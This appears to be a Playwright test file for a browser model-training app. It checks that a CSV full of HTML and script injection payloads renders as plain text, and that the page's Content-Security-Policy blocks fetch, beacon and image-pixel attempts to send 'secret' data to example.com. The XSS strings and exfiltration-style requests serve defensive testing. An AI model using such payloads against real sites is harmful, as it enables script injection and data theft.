// Hostile data and privacy in real Chromium, against the production build: a CSV whose texts,
// labels, column names and file name are HTML/script payloads is shown as literal text and runs
// nothing; the Content-Security-Policy in index.html blocks requests to anything but this origin
// and the Hugging Face hub; the same policy sent as an HTTP header on the training worker (how a
// static host should serve it, see tests/reliability/README.md) keeps the engine working.
import { expect, test, type Page } from '@playwright/test';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import Papa from 'papaparse';
import { MODEL_ID, openStep } from './studio';

const REPO_ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');

const IMG = '<img src=x onerror=alert(1)>';
const SCRIPT = '<script>alert(1)</script>';
const FLAG = '<img src=x onerror="window.__pwned=1">';
const SVG = '"><svg onload=alert(1)>';
const BOLD = '<b>spam</b>';
const OUTSIDE = 'https://example.com';
// Hosts the hub's resolve/ URLs redirect to (huggingface/hub-docs "downloading behind a firewall").
const HUB_HOSTS = [
  'https://huggingface.co',
  'https://cdn-lfs.huggingface.co',
  'https://cdn-lfs-us-1.huggingface.co',
  'https://cdn-lfs.hf.co',
  'https://cas-bridge.xethub.hf.co',
  'https://us.aws.cdn.hf.co',
];

/** Three hostile column names (text, label, extra), 40 rows, two hostile labels. */
function hostileCsv(): Buffer {
  const texts = [`hello ${IMG} world`, `${SCRIPT} in a text`, `${FLAG} and ${SVG}`, 'javascript:alert(1)'];
  const rows = Array.from({ length: 40 }, (_, i) => [`${texts[i % 4]} #${i}`, i % 3 === 0 ? BOLD : IMG, `${SVG}${i}`]);
  return Buffer.from(Papa.unparse({ fields: [IMG, SCRIPT, SVG], data: rows }, { newline: '\n' }));
}

/** Dialogs, page errors and CSP reports seen by the page, for the end-of-test checks. */
function watch(page: Page): { dialogs: string[]; errors: string[] } {
  const seen = { dialogs: [] as string[], errors: [] as string[] };
  page.on('dialog', (d) => {
    seen.dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('pageerror', (e) => seen.errors.push(e.message));
  page.on('console', (m) => {
    if (m.type() === 'error' || /Content Security Policy/i.test(m.text())) seen.errors.push(m.text());
  });
  return seen;
}

async function loadLocalModel(page: Page) {
  await openStep(page, 'Model');
  await page.getByLabel('Model', { exact: true }).selectOption(MODEL_ID);
  await page.getByRole('button', { name: 'Load model' }).click();
  await expect(page.getByLabel('Model facts')).toContainText('128', { timeout: 120_000 });
}

const hubQuery = (baseURL: string | undefined): string =>
  `hub=${encodeURIComponent(`${new URL(baseURL ?? 'http://127.0.0.1:4317').origin}/hub`)}`;

test('a CSV of HTML and script payloads is shown as text and runs nothing', async ({ page }, info) => {
  const seen = watch(page);
  await page.goto(`/?backend=wasm&${hubQuery(info.project.use.baseURL)}`);
  await page
    .getByLabel('Dataset file')
    .setInputFiles({ name: `${IMG}.csv`, mimeType: 'text/csv', buffer: hostileCsv() });

  const preview = page.getByRole('table', { name: 'First rows of the dataset' });
  await expect(preview).toBeVisible();
  await expect(preview.getByRole('columnheader', { name: SCRIPT, exact: true })).toBeVisible();
  await expect(preview.getByRole('columnheader', { name: SVG, exact: true })).toBeVisible();
  await expect(preview.getByText(`hello ${IMG} world #0`, { exact: true })).toBeVisible();
  await expect(preview.getByText(`${FLAG} and ${SVG} #2`, { exact: true })).toBeVisible();
  await expect(page.getByLabel('Dataset facts')).toContainText(`${IMG}.csv`);

  await page.getByLabel('Text column', { exact: true }).selectOption(IMG);
  await page.getByLabel('Label column', { exact: true }).selectOption(SCRIPT);
  await expect(page.getByLabel('Label column', { exact: true })).toHaveValue(SCRIPT);

  // The label names reach the chart once the tokenizer is there.
  await loadLocalModel(page);
  await openStep(page, 'Data');
  const chart = page.getByRole('figure', { name: 'Label distribution' });
  await expect(chart).toContainText(BOLD, { timeout: 60_000 });
  await expect(chart).toContainText(IMG);

  expect(await page.locator('img[src="x"], svg[onload], [onerror], [onload], b').count()).toBe(0);
  const inline = await page.evaluate(
    () => [...document.scripts].filter((s) => !s.src || s.text.includes('alert')).length,
  );
  expect(inline).toBe(0);
  expect(await page.evaluate(() => (globalThis as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(seen.dialogs).toEqual([]);
  expect(seen.errors).toEqual([]);
});

test('the CSP lets the page reach only itself and the hub', async ({ page }) => {
  const seen = watch(page);
  // Answer every outside request: whatever still fails was stopped by the policy, not the network.
  await page.route(/^https:\/\//, (route) =>
    route.fulfill({ status: 200, headers: { 'access-control-allow-origin': '*' }, body: 'reachable' }),
  );
  await page.goto('/?backend=cpu');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  for (const directive of ["connect-src 'self' https://huggingface.co", "object-src 'none'", "base-uri 'none'"])
    expect(policy).toContain(directive);

  const result = await page.evaluate(
    async ({ outside, hubs }) => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) =>
        violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
      );
      const get = (url: string) =>
        fetch(url).then(
          (r) => r.text(),
          (e: unknown) => `blocked: ${String(e)}`,
        );
      const outsideFetch = await get(`${outside}/collect?data=secret`);
      const beacon = navigator.sendBeacon(`${outside}/beacon`, 'secret');
      const pixel = await new Promise<string>((resolve) => {
        const img = new Image();
        img.onload = () => resolve('loaded');
        img.onerror = () => resolve('blocked');
        img.src = `${outside}/pixel.gif`;
      });
      const hubFetches = await Promise.all(hubs.map((h) => get(`${h}/some/model/resolve/main/config.json`)));
      const sameOrigin = await fetch('/hub/api/local-models').then((r) => r.status);
      await new Promise((r) => setTimeout(r, 200)); // violation events are queued as tasks
      return { outsideFetch, beacon, pixel, hubFetches, sameOrigin, violations };
    },
    { outside: OUTSIDE, hubs: HUB_HOSTS },
  );
  expect(result.outsideFetch).toMatch(/^blocked/);
  expect(result.pixel).toBe('blocked');
  const reported = (what: string) => result.violations.some((v) => v.startsWith(what));
  expect(reported(`connect-src ${OUTSIDE}/collect`)).toBe(true);
  expect(reported(`img-src ${OUTSIDE}/pixel.gif`)).toBe(true);
  expect(reported(`connect-src ${OUTSIDE}/beacon`) || !result.beacon).toBe(true);
  expect(result.hubFetches).toEqual(HUB_HOSTS.map(() => 'reachable'));
  expect(result.sameOrigin).toBe(200);
  expect(result.violations.filter((v) => /huggingface|hf\.co/.test(v))).toEqual([]);
  // the only console errors are the reports of what we tried to send out
  expect(seen.errors.every((e) => e.includes(OUTSIDE))).toBe(true);
});

test('the <meta> policy covers blob: workers but not the training worker script', async ({ page }) => {
  await page.route('**/probe-worker.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      headers: { 'cross-origin-embedder-policy': 'require-corp', 'cross-origin-resource-policy': 'same-origin' },
      body: `fetch('${OUTSIDE}/w').then((r) => r.text(), () => 'blocked').then((t) => postMessage(t));`,
    }),
  );
  await page.route(`${OUTSIDE}/**`, (route) =>
    route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: 'reachable' }),
  );
  await page.goto('/?backend=cpu');
  const [urlWorker, blobWorker] = await page.evaluate(async (outside) => {
    const run = (w: Worker) => new Promise<string>((resolve) => (w.onmessage = (e) => resolve(String(e.data))));
    const code = `fetch('${outside}/w').then((r) => r.text(), () => 'blocked').then((t) => postMessage(t));`;
    const blob = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
    return Promise.all([run(new Worker('/probe-worker.js')), run(new Worker(blob))]);
  }, OUTSIDE);
  // A worker loaded from a URL takes its policy from its own response: hence the header below.
  expect([urlWorker, blobWorker]).toEqual(['reachable', 'blocked']);
});

for (const backend of ['wasm', null]) {
  test(`with the policy also on the worker's response the engine runs a model (${backend ?? 'default backend'})`, async ({
    page,
  }, info) => {
    const seen = watch(page);
    const html = fs.readFileSync(path.join(REPO_ROOT, 'dist/index.html'), 'utf8');
    const policy = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(html)?.[1];
    expect(policy).toContain("connect-src 'self'");
    let headerSent = false;
    await page.route('**/assets/trainer.worker-*.js', async (route) => {
      const response = await route.fetch();
      headerSent = true;
      await route.fulfill({ response, headers: { ...response.headers(), 'content-security-policy': policy! } });
    });
    await page.goto(`/?${backend ? `backend=${backend}&` : ''}${hubQuery(info.project.use.baseURL)}`);
    const badge = page.getByRole('status', { name: 'Backend' });
    await expect(badge).toHaveAttribute('data-backend', backend ?? /^(webgpu|webgl|wasm|cpu)$/);
    await loadLocalModel(page);
    expect(headerSent).toBe(true);
    expect(seen.errors).toEqual([]);
  });
}

test('the preview server sends the policy as a header, so it binds the training worker too', async ({ page }) => {
  const workerUrls: string[] = [];
  page.on('worker', (w) => workerUrls.push(w.url()));
  await page.goto('/?backend=wasm');
  await expect(page.getByRole('status', { name: 'Backend' })).toHaveAttribute('data-backend', 'wasm');
  const trainer = workerUrls.find((u) => u.includes('trainer.worker'));
  expect(trainer, 'the trainer worker started').toBeDefined();
  const res = await page.request.get(trainer!);
  expect(res.headers()['content-security-policy']).toContain("connect-src 'self' https://huggingface.co");
});
